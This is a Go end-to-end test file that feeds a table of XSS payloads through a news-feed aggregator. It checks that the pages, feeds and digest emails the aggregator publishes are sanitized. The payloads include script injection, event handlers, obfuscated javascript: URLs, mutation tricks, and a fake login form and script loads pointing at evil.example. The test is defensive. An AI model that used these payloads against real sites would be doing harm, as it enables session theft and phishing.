package e2e

import (
	"bytes"
	"context"
	"encoding/json"
	"encoding/xml"
	"fmt"
	"html"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/mmcdole/gofeed"
	nethtml "golang.org/x/net/html"

	"github.com/broadsheet/broadsheet/digest"
	"github.com/broadsheet/broadsheet/feeds"
	"github.com/broadsheet/broadsheet/feeds/fetch"
	"github.com/broadsheet/broadsheet/publish"
	"github.com/broadsheet/broadsheet/store"
	"github.com/broadsheet/broadsheet/store/sqlite"
	"github.com/broadsheet/broadsheet/topics"
)

// xssCase is one payload. It goes into the title, summary, content,
// author, category and link of one item in each feed format; a URL payload
// (url true) is the item's and the feed's link, and the href and src of
// links and images in the content.
type xssCase struct {
	name    string
	payload string
	url     bool
}

var xssCases = []xssCase{
	{"ScriptTag", `<script>alert('xss')</script>`, false},
	{"ScriptSrcUpperCase", `<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>`, false},
	{"ScriptSplit", `<scr<script>ipt>alert('xss')</scr</script>ipt>`, false},
	{"ImgOnerror", `<img src=x onerror="alert('xss')">`, false},
	{"BodyOnload", `<body onload=alert('xss')>`, false},
	{"DivOnMouseOverMixedCase", `<div OnMouseOver="alert('xss')">hover</div>`, false},
	{"SvgOnload", `<svg onload=alert('xss')><circle r="40"/></svg>`, false},
	{"SvgXlinkHref", `<svg><a xlink:href="javascript:alert('xss')"><text x="20" y="20">xss</text></a></svg>`, false},
	{"MathHref", `<math><mtext><a href="javascript:alert('xss')">x</a></mtext></math>`, false},
	{"AnchorJavascript", `<a href="javascript:alert('xss')">click</a>`, false},
	{"AnchorJavascriptCaseAndSpace", `<a href="  JaVaScRiPt:alert('xss')">click</a>`, false},
	{"AnchorJavascriptDecimalEntities", `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert('xss')">click</a>`, false},
	{"AnchorJavascriptHexEntitiesNoSemicolon", `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert('xss')">click</a>`, false},
	{"AnchorJavascriptTabAndNewline", "<a href=\"jav&#x09;ascript:alert('xss')\">tab</a><a href=\"java\nscript:alert('xss')\">newline</a>", false},
	{"AnchorDataHTML", `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgneHNzJyk8L3NjcmlwdD4=">click</a>`, false},
	{"ImgDataSVG", `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`, false},
	{"AnchorVbscript", `<a href="vbscript:msgbox('xss')">click</a>`, false},
	{"CSSExpression", `<div style="width: expression(alert('xss'))">x</div>`, false},
	{"CSSURLJavascript", `<p style="background-image: url(javascript:alert('xss'))">x</p>`, false},
	{"StyleElement", `<style>@import 'https://evil.example/x.css'; body{background:url("javascript:alert('xss')")}</style>`, false},
	{"MetaRefresh", `<meta http-equiv="refresh" content="0;url=javascript:alert('xss')">`, false},
	{"BaseHref", `<base href="https://evil.example/">`, false},
	{"FormAction", `<form action="https://evil.example/login"><input name=password type=password><button>Log in</button></form>`, false},
	{"ButtonFormaction", `<button formaction="javascript:alert('xss')">go</button>`, false},
	{"IframeSrc", `<iframe src="https://evil.example/"></iframe>`, false},
	{"IframeSrcdoc", `<iframe srcdoc="<script>alert('xss')</script>"></iframe>`, false},
	{"ObjectData", `<object data="javascript:alert('xss')"></object>`, false},
	{"EmbedSrc", `<embed src="https://evil.example/x.swf">`, false},
	{"LinkStylesheet", `<link rel="stylesheet" href="https://evil.example/x.css">`, false},
	{"AttributeBreakout", `"><script>alert('xss')</script>`, false},
	{"EscapedScript", `&lt;script&gt;alert('xss')&lt;/script&gt;`, false},
	{"NoscriptMutation", `<noscript><p title="</noscript><img src=x onerror=alert('xss')>">`, false},
	{"CommentBreakout", `<!--<img src="--><img src=x onerror=alert('xss')//">`, false},
	{"URLJavascript", `javascript:alert('xss')`, true},
	{"URLJavascriptObfuscated", " JaVa\tScRiPt:alert('xss')", true},
	{"URLJavascriptEntity", `&#106;avascript:alert('xss')`, true},
	{"URLData", `data:text/html,<script>alert('xss')</script>`, true},
	{"URLVbscript", `vbscript:msgbox('xss')`, true},
}

var xssFormats = []string{"rss", "atom", "json"}

// xssItem is what one served feed holds: one item.
type xssItem struct {
	marker, guid                            string
	title, link, author, category           string
	summary, content, feedLink, publishedAt string
}

func newXSSItem(i int, c xssCase, format string, published time.Time) xssItem {
	marker := fmt.Sprintf("Mark%02d%s", i, format[:1]) // letters and digits survive anything
	it := xssItem{
		marker:      marker,
		guid:        "urn:xss:" + marker,
		title:       marker + " " + c.payload + " end",
		author:      c.payload,
		category:    c.payload,
		summary:     c.payload + " summary of " + marker,
		content:     "<p>Body of " + marker + `</p><a href="relative/page">relative</a>` + c.payload,
		feedLink:    "https://evil.example/",
		link:        "https://evil.example/" + marker + "?q=" + c.payload,
		publishedAt: published.UTC().Format(time.RFC3339),
	}
	if c.url {
		it.link, it.feedLink = c.payload, c.payload
		it.author = "Eve " + c.payload
		// Inserted as written: entities in the payload are decoded by the
		// HTML parser, as in a real feed.
		it.content += `<a href="` + c.payload + `">click</a><img src="` + c.payload + `"><iframe src="` + c.payload + `"></iframe>`
	}
	return it
}

func xmlEsc(s string) string {
	var b strings.Builder
	xml.EscapeText(&b, []byte(s))
	return b.String()
}

// body renders the item as a feed of the format; every payload is escaped
// as the format requires, so that the feed is well-formed and the field's
// value is the payload itself.
func (it xssItem) body(format string) (contentType string, body []byte) {
	pub, _ := time.Parse(time.RFC3339, it.publishedAt)
	switch format {
	case "rss":
		return "application/rss+xml; charset=utf-8", []byte(`<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:dc="http://purl.org/dc/elements/1.1/">
<channel><title>XSS feed</title><link>` + xmlEsc(it.feedLink) + `</link><description>payloads</description>
<item><title>` + xmlEsc(it.title) + `</title><link>` + xmlEsc(it.link) + `</link><guid isPermaLink="false">` + it.guid + `</guid>
<pubDate>` + pub.Format(time.RFC1123Z) + `</pubDate><dc:creator>` + xmlEsc(it.author) + `</dc:creator><category>` + xmlEsc(it.category) + `</category>
<description>` + xmlEsc(it.summary) + `</description><content:encoded>` + xmlEsc(it.content) + `</content:encoded></item>
</channel></rss>`)
	case "atom":
		return "application/atom+xml; charset=utf-8", []byte(`<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom"><title>XSS feed</title><id>urn:xss:feed</id><updated>` + it.publishedAt + `</updated>
<link rel="alternate" href="` + xmlEsc(it.feedLink) + `"/>
<entry><title type="html">` + xmlEsc(it.title) + `</title><link rel="alternate" href="` + xmlEsc(it.link) + `"/><id>` + it.guid + `</id>
<published>` + it.publishedAt + `</published><updated>` + it.publishedAt + `</updated>
<author><name>` + xmlEsc(it.author) + `</name></author><category term="` + xmlEsc(it.category) + `"/>
<summary type="html">` + xmlEsc(it.summary) + `</summary><content type="html">` + xmlEsc(it.content) + `</content></entry></feed>`)
	default:
		b, _ := json.Marshal(map[string]any{
			"version":       "https://jsonfeed.org/version/1.1",
			"title":         "XSS feed",
			"home_page_url": it.feedLink,
			"items": []map[string]any{{
				"id": it.guid, "url": it.link, "title": it.title, "summary": it.summary,
				"content_html": it.content, "authors": []map[string]string{{"name": it.author}},
				"tags": []string{it.category}, "date_published": it.publishedAt,
			}},
		})
		return "application/feed+json", b
	}
}

// xssGroups puts each payload's three items in a configured topic labelled
// with the payload, answering the groups query as assign.Assigner does
// over the store's articles.
type xssGroups struct {
	db      *sqlite.DB
	members []topics.Members
}

func (g *xssGroups) Groups(ctx context.Context, q topics.Query) ([]topics.Group, error) {
	arts, err := g.db.Articles(ctx, store.ArticleFilter{PublishedSince: q.PublishedSince})
	if err != nil {
		return nil, err
	}
	conf := make([]topics.Topic, len(g.members))
	for i, m := range g.members {
		conf[i] = m.Topic
	}
	return topics.Build(arts, g.members, conf, q), nil
}

// TestXSS_EndToEnd serves a table of XSS payloads in every field of RSS,
// Atom and JSON feeds over loopback, through the real path (fetch, poller,
// SQLite), and checks what comes out: the stored articles, the HTML page,
// the three combined feeds and each entry's HTML inside them, the topic
// feeds, and a digest email (both parts, parsed as MIME). No dangerous
// element, attribute or URL may survive, and titles must be text
// everywhere.
func TestXSS_EndToEnd(t *testing.T) {
	ctx := t.Context()
	now := time.Now()
	type served struct {
		ctype string
		body  []byte
	}
	feedsAt := map[string]served{}
	items := map[string]xssItem{} // by source name
	var srcs []feeds.Source
	groups := &xssGroups{}
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		f, ok := feedsAt[r.URL.Path]
		if !ok {
			http.NotFound(w, r)
			return
		}
		w.Header().Set("Content-Type", f.ctype)
		w.Write(f.body)
	}))
	defer srv.Close()
	srcName := func(c xssCase, format string) string { return "XSS " + c.name + " " + format }
	for i, c := range xssCases {
		g := topics.Members{Topic: topics.Topic{Slug: fmt.Sprintf("xss-%02d", i), Label: c.payload + " topic", Kind: topics.KindConfigured}}
		for _, f := range xssFormats {
			it := newXSSItem(i, c, f, now.Add(-time.Hour-time.Duration(i)*time.Minute))
			ct, body := it.body(f)
			// A folder per item: a payload read as a relative link then
			// resolves to a link of its own, not one the three share.
			p := fmt.Sprintf("/%02d%s/feed", i, f[:1])
			feedsAt[p] = served{ct, body}
			name := srcName(c, f)
			items[name] = it
			srcs = append(srcs, feeds.Source{Name: name, URL: srv.URL + p, Kind: feeds.KindNews})
			g.ArticleIDs = append(g.ArticleIDs, feeds.ArticleID(name, it.guid))
		}
		groups.members = append(groups.members, g)
	}

	db := openStore(t)
	groups.db = db
	client := fetch.New(fetch.Options{Timeout: 5 * time.Second, AllowPrivateNetworks: true})
	reports := pollAll(t, client, db, srcs, 4, 5*time.Second, time.Minute)
	fetchErr := map[string]error{}
	for _, r := range reports {
		fetchErr[r.Source] = r.Err
	}

	h := publish.New(db, publish.Options{
		Title: "e2e", BaseURL: "https://news.example.org/", FeedItems: 1000,
		Sources: srcs, Groups: groups, Logger: quiet,
	})
	if err := h.Refresh(ctx); err != nil {
		t.Fatal(err)
	}
	outputs := map[string][]byte{}
	parsed := map[string]map[string]*gofeed.Item{} // path → guid → item
	for _, p := range []string{"/feed.atom", "/feed.rss", "/feed.json"} {
		outputs[p] = handlerGet(t, h, p)
		f, err := gofeed.NewParser().Parse(bytes.NewReader(outputs[p]))
		if err != nil {
			t.Fatalf("%s does not parse: %v", p, err)
		}
		parsed[p] = map[string]*gofeed.Item{}
		for _, it := range f.Items {
			parsed[p][it.GUID] = it
		}
	}
	page := string(handlerGet(t, h, "/"))
	pageDoc, err := nethtml.Parse(strings.NewReader(page))
	if err != nil {
		t.Fatal(err)
	}
	mails := sendDigest(t, db, digest.Digest{Name: "xss", To: []string{"reader@example.com"}})
	mail := mails["reader@example.com"]
	mailDoc, err := nethtml.Parse(strings.NewReader(mail.HTML))
	if err != nil {
		t.Fatal(err)
	}

	t.Run("Documents", func(t *testing.T) {
		for _, p := range []string{"/feed.atom", "/feed.rss"} {
			for _, prob := range xmlProblems(outputs[p]) {
				t.Errorf("%s: %s", p, prob)
			}
		}
		for _, prob := range jsonProblems(t, outputs["/feed.json"]) {
			t.Errorf("/feed.json: %s", prob)
		}
		for _, prob := range htmlProblems(page, true) {
			t.Errorf("page: %s", prob)
		}
		for _, prob := range htmlProblems(mail.HTML, true) {
			t.Errorf("digest HTML part: %s", prob)
		}
		for _, prob := range textLinkProblems(mail.Text) {
			t.Errorf("digest text part: %s", prob)
		}
		if subj := mail.Header.Get("Subject"); strings.ContainsAny(subj, "<>") {
			t.Errorf("digest subject %q carries markup", subj)
		}
		for _, g := range groups.members {
			for _, prob := range htmlProblems(string(handlerGet(t, h, "/topics/"+g.Slug)), true) {
				t.Errorf("page of %s: %s", g.Slug, prob)
			}
			p := "/topics/" + g.Slug + ".atom"
			b := handlerGet(t, h, p)
			for _, prob := range xmlProblems(b) {
				t.Errorf("%s: %s", p, prob)
			}
			f, err := gofeed.NewParser().Parse(bytes.NewReader(b))
			if err != nil {
				t.Errorf("%s does not parse: %v", p, err)
				continue
			}
			if !textOnly(f.Title) {
				t.Errorf("%s: feed title %q (a topic label) is markup", p, f.Title)
			}
			if len(f.Items) != len(xssFormats) {
				t.Errorf("%s: %d entries, want %d", p, len(f.Items), len(xssFormats))
			}
		}
	})

	for _, c := range xssCases {
		t.Run(c.name, func(t *testing.T) {
			for _, format := range xssFormats {
				t.Run(format, func(t *testing.T) {
					name := srcName(c, format)
					it := items[name]
					if err := fetchErr[name]; err != nil {
						t.Fatalf("fetch: %v", err)
					}
					id := feeds.ArticleID(name, it.guid)
					a, err := db.Article(ctx, id)
					if err != nil {
						t.Fatalf("stored article %s: %v", id, err)
					}
					if !strings.Contains(a.Title, it.marker) {
						t.Errorf("stored title %q lost its text %q", a.Title, it.marker)
					}
					for field, s := range map[string]string{"summary": a.Summary, "content": a.Content} {
						for _, prob := range htmlProblems(s, false) {
							t.Errorf("stored %s: %s in %q", field, prob, s)
						}
					}
					if a.Link != "" && !absHTTP(a.Link) {
						t.Errorf("stored link %q is not an http(s) URL", a.Link)
					}
					if !strings.Contains(a.Content, "Body of "+it.marker) {
						t.Errorf("stored content %q lost the article's text", a.Content)
					}

					for _, p := range []string{"/feed.atom", "/feed.rss", "/feed.json"} {
						e := parsed[p]["tag:broadsheet,2026:article/"+id]
						if e == nil {
							t.Errorf("%s: no entry for %s", p, id)
							continue
						}
						checkEntry(t, p, it.marker, e)
					}

					if !hasText(pageDoc, it.marker) {
						t.Errorf("page: title %q does not appear as text", it.marker)
					}
					if !hasText(mailDoc, it.marker) {
						t.Errorf("digest HTML part: title %q does not appear as text", it.marker)
					}
					if !strings.Contains(mail.Text, it.marker) {
						t.Errorf("digest text part: title %q missing", it.marker)
					}
				})
			}
		})
	}
}

// checkEntry checks one entry of a republished feed, as gofeed reads it:
// text-only title, author and categories, safe HTML, an http(s) link.
func checkEntry(t *testing.T, where, marker string, e *gofeed.Item) {
	t.Helper()
	if !textOnly(e.Title) || !strings.Contains(e.Title, marker) {
		t.Errorf("%s: title %q is not text holding %q", where, e.Title, marker)
	}
	for _, p := range e.Authors {
		if p != nil && !textOnly(p.Name) {
			t.Errorf("%s: author %q is markup", where, p.Name)
		}
	}
	for _, c := range e.Categories {
		if !textOnly(c) {
			t.Errorf("%s: category %q is markup", where, c)
		}
	}
	for field, s := range map[string]string{"content": e.Content, "summary": e.Description} {
		for _, prob := range htmlProblems(s, false) {
			t.Errorf("%s: entry %s: %s", where, field, prob)
		}
	}
	if !strings.Contains(e.Content+e.Description, "Body of "+marker) {
		t.Errorf("%s: entry lost the article's text: %q", where, e.Content)
	}
	for _, l := range append([]string{e.Link}, e.Links...) {
		if l != "" && !absHTTP(l) {
			t.Errorf("%s: link %q is not an http(s) URL", where, l)
		}
	}
}

// absHTTP reports whether u is an absolute http or https URL.
func absHTTP(u string) bool {
	l := strings.ToLower(u)
	return strings.HasPrefix(l, "http://") || strings.HasPrefix(l, "https://")
}

// hasText reports whether a text node of doc, outside scripts, styles and
// titles, holds s.
func hasText(doc *nethtml.Node, s string) bool {
	found := false
	var walk func(n *nethtml.Node)
	walk = func(n *nethtml.Node) {
		if found {
			return
		}
		if n.Type == nethtml.ElementNode && (n.Data == "script" || n.Data == "style" || n.Data == "title") {
			return
		}
		if n.Type == nethtml.TextNode && strings.Contains(n.Data, s) {
			found = true
			return
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	walk(doc)
	return found
}

// xmlProblems walks a republished Atom or RSS document: no active element
// in any namespace (as XHTML content would carry), every URL attribute
// http(s), and the HTML in summaries and contents safe.
func xmlProblems(b []byte) []string {
	var probs []string
	d := xml.NewDecoder(bytes.NewReader(b))
	var stack []string
	for {
		tok, err := d.Token()
		if err == io.EOF {
			break
		}
		if err != nil {
			return append(probs, fmt.Sprintf("XML: %v", err))
		}
		switch tok := tok.(type) {
		case xml.StartElement:
			name := strings.ToLower(tok.Name.Local)
			stack = append(stack, name)
			if neverElements[name] || name == "style" || name == "meta" {
				probs = append(probs, fmt.Sprintf("<%s> element in the XML", name))
			}
			for _, a := range tok.Attr {
				k := strings.ToLower(a.Name.Local)
				if strings.HasPrefix(k, "on") {
					probs = append(probs, fmt.Sprintf("<%s %s>: event handler", name, k))
				}
				if (k == "href" || k == "src" || k == "url") && a.Value != "" && !absHTTP(a.Value) {
					probs = append(probs, fmt.Sprintf("<%s %s=%q>: not an http(s) URL", name, k, a.Value))
				}
			}
		case xml.EndElement:
			stack = stack[:len(stack)-1]
		case xml.CharData:
			if len(stack) == 0 {
				continue
			}
			switch el := stack[len(stack)-1]; el {
			case "summary", "content", "description", "encoded":
				for _, p := range htmlProblems(string(tok), false) {
					probs = append(probs, fmt.Sprintf("<%s>: %s", el, p))
				}
			case "title", "name", "subtitle":
				if !textOnly(string(tok)) {
					probs = append(probs, fmt.Sprintf("<%s>%s</%s> is markup", el, html.EscapeString(string(tok)), el))
				}
			case "link":
				if s := strings.TrimSpace(string(tok)); s != "" && !absHTTP(s) {
					probs = append(probs, fmt.Sprintf("<link>%s</link> is not an http(s) URL", s))
				}
			}
		}
	}
	return probs
}

// jsonProblems walks every string of a republished JSON Feed by its key.
func jsonProblems(t *testing.T, b []byte) []string {
	var v any
	if err := json.Unmarshal(b, &v); err != nil {
		t.Fatalf("JSON: %v", err)
	}
	var probs []string
	var walk func(v any, key string)
	walk = func(v any, key string) {
		switch v := v.(type) {
		case map[string]any:
			for k, x := range v {
				walk(x, k)
			}
		case []any:
			for _, x := range v {
				walk(x, key)
			}
		case string:
			switch key {
			case "content_html", "summary", "content_text":
				for _, p := range htmlProblems(v, false) {
					probs = append(probs, fmt.Sprintf("%s: %s", key, p))
				}
			case "url", "external_url", "home_page_url", "feed_url", "image", "banner_image", "icon", "favicon", "avatar", "next_url":
				if v != "" && !absHTTP(v) {
					probs = append(probs, fmt.Sprintf("%s %q is not an http(s) URL", key, v))
				}
			case "title", "name", "label", "tags":
				if !textOnly(v) {
					probs = append(probs, fmt.Sprintf("%s %q is markup", key, v))
				}
			}
		}
	}
	walk(v, "")
	return probs
}
